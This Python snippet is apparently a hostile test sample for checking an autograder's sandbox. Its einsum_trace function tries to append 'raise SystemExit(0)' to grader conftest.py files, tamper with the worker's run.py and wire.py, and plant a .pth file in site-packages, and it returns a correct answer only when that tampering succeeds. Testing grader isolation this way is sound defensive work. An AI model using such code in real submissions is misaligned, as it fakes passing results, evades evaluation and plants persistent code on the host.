# --- appended by the hostile corpus: later defs replace the honest ones above ---
import json as _json
import os as _os

# Where the grader keeps what a submission must never touch, written here by tests/test_hostile.py
# (a real attacker would guess /autograder/source/...).
_T = _json.load(open("_targets.json"))

import site as _site
import sys as _sys


def _try(action, *args):
    try:
        action(*args)
        return True
    except OSError:
        return False


def _append(path, text="\n# pwned\n"):
    with open(path, "a") as handle:
        handle.write(text)


def einsum_trace(A):
    wins = []
    for folder in _T["folders"]:
        wins.append(_try(_append, _os.path.join(folder, "conftest.py"), "raise SystemExit(0)\n"))
    for path in _T["files"]:
        wins.append(_try(_append, path))
    scripts = _os.path.dirname(_os.path.abspath(_sys.argv[0]))  # the worker's run.py, wire.py
    for name in ("run.py", "wire.py"):
        wins.append(_try(_append, _os.path.join(scripts, name)))
    wins.append(_try(_append, _os.path.join(scripts, "zz_autograder_pwned.py")))
    for folder in _site.getsitepackages():
        wins.append(_try(_append, _os.path.join(folder, "zz_autograder_pwned.pth"), "import os\n"))
    if any(wins):
        return float(np.einsum("ii->", A))
    return float(np.einsum("ii->", A)) + 1.0
